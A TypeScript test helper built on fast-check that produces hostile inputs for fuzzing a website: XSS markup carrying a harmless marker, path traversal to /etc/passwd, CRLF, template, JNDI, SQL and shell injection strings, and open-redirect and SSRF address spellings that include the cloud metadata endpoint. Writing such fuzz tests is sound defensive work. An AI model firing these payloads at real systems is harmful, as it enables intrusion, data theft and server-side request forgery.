import fc from "fast-check";

/** Marks every piece of hostile markup, so that it can be recognised in output. */
export const marker = "zqx7";

/** Markup, and escapes from an attribute, a script, a comment and a style. None may be output unchanged. */
export const markup: readonly string[] = [
  `<${marker}>`,
  `<script>${marker}()</script>`,
  `</script><script>${marker}()</script>`,
  `"><img src=x onerror=${marker}()>`,
  `'><svg/onload=${marker}()>`,
  `--><${marker}>`,
  `</style><${marker}>`,
  `</title><${marker}>`,
  `]]><${marker}>`,
  `<math><mtext><table><mglyph><style><${marker}>`,
  `<a href="javascript:${marker}()">a</a>`,
  `<iframe srcdoc="<script>${marker}()</script>">`,
  `<base href=//evil.test><${marker}>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/${marker}">`,
  `<h2 id="${marker}">{"manifest":"/sites/default/files/foreign.js"}</h2>`,
  `<form name="${marker}"><input name="${marker}"></form><img name="${marker}" src="/a.png">`,
  `" autofocus onfocus=${marker}() x="`,
  `${marker}\u2028<${marker}>\u0000`,
];

/** Other inputs that have broken websites. */
const other = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/etc/passwd",
  "..\\..\\windows\\win.ini",
  "....//....//etc/passwd",
  "file:///etc/passwd",
  "%00",
  "%0d%0aX-Zqx7: 1",
  "%E5%98%8A%E5%98%8DX-Zqx7: 1",
  "\r\nX-Zqx7: 1",
  "${7*7}",
  "{{7*7}}",
  "#{7*7}",
  "${jndi:ldap://evil.test/a}",
  "' OR '1'='1",
  "1; DROP TABLE node; --",
  '" UNION SELECT 1 FROM sqlite_master --',
  'NEAR(a b) AND "',
  "$(id)",
  "`id`",
  "| id",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "-1",
  "1e999",
  "NaN",
  "9".repeat(40),
  "\ud800",
  "İ",
  "ß".repeat(50),
  "%",
  "%ff",
  "%c0%ae",
  "a".repeat(3000),
  "[".repeat(300),
  "((((((((((a+)+)+)+)+)+)+)+)+)$",
  '{"a":'.repeat(200),
];

/** Returns addresses of a server that visitors must never be sent to, in deceptive spellings. */
export const addressesOf = (canary: string): readonly string[] => {
  const { host, port } = new URL(canary);
  return [
    canary,
    `${canary}/a.jpg`,
    `//${host}/`,
    `/\\${host}/`,
    `\\\\${host}\\a`,
    `http:${host}`,
    `http:/${host}`,
    `http://localhost:${port}/`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://2130706433:${port}/`,
    `http://0x7f.1:${port}/`,
    `http://www.site.example@${host}/`,
    `http://${host}#@www.site.example/`,
    `http://www.site.example.${host}/`,
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    `%2f%2f${host}`,
    `/%09/${host}`,
    `/.${host}`,
  ];
};

/** Any hostile text; those with an address contain the canary's. */
export const hostileText = (canary: string): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...markup) },
    { weight: 4, arbitrary: fc.constantFrom(...other) },
    { weight: 2, arbitrary: fc.constantFrom(...addressesOf(canary)) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  );
